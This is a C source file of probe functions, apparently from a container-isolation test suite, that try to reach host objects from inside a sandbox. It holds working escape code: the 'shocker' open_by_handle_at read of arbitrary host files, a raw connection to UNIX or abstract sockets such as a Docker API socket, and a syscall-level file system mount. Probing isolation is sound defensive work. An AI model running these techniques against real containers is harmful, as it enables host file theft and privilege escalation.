/* Reaching host objects without a path of one's own: by handle, by socket, by mount descriptor. */
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

static int copy_out(int fd)
{
	char buf[4096];
	ssize_t len;

	while ((len = read(fd, buf, sizeof(buf))) > 0)
		if (write(1, buf, len) != len)
			break;
	close(fd);
	return len < 0;
}

/* The root directory of the file system that a bind mount lies on is inode 2 (ext4) or 128 (xfs):
 * with CAP_DAC_READ_SEARCH no path is needed to open it (the technique known as shocker). */
int probe_handle(int argc, char **argv)
{
	static const unsigned roots[] = { 2, 128 };
	struct { unsigned bytes; int type; unsigned ino, gen; } handle = { 8, 1, 0, 0 };
	int mounted = argc == 3 ? open(argv[1], O_RDONLY | O_CLOEXEC) : -1;

	if (mounted < 0)
		return probe_failed("handle");
	for (size_t i = 0; i < sizeof(roots) / sizeof(*roots); i++) {
		int root, file;

		handle.ino = roots[i];
		root = syscall(SYS_open_by_handle_at, mounted, &handle, O_RDONLY | O_DIRECTORY);
		if (root < 0)
			continue;
		file = openat(root, argv[2] + (argv[2][0] == '/'), O_RDONLY | O_CLOEXEC);
		if (file >= 0)
			return copy_out(file);
	}
	return probe_failed("open_by_handle_at");
}

/* A leading @ means the abstract namespace, which follows the network namespace, not the root. */
int probe_socket(int argc, char **argv)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	struct timeval limit = { .tv_sec = 3 };
	const char *text = argc > 2 ? argv[2] : "GET /_ping HTTP/1.0\r\n\r\n";
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	size_t len = argc > 1 ? strlen(argv[1]) : 0;

	if (fd < 0 || len == 0 || len >= sizeof(address.sun_path))
		return probe_failed("socket");
	memcpy(address.sun_path, argv[1], len);
	if (argv[1][0] == '@')
		address.sun_path[0] = '\0';
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	if (connect(fd, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + len +
		    (argv[1][0] != '@')))
		return probe_failed("connect");
	if (write(fd, text, strlen(text)) < 0)
		return probe_failed("write");
	return copy_out(fd);
}

int probe_mountfd(int argc, char **argv)
{
	int fs = argc == 3 ? syscall(430, argv[1], 1) : -1;
	int mount;

	if (fs < 0 || syscall(431, fs, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0))
		return probe_failed("fsopen");
	mount = syscall(432, fs, 1, 0);
	if (mount < 0 || syscall(429, mount, "", AT_FDCWD, argv[2], 4 /* F_EMPTY_PATH */))
		return probe_failed("move_mount");
	printf("MOUNTED %s\n", argv[1]);
	return 0;
}
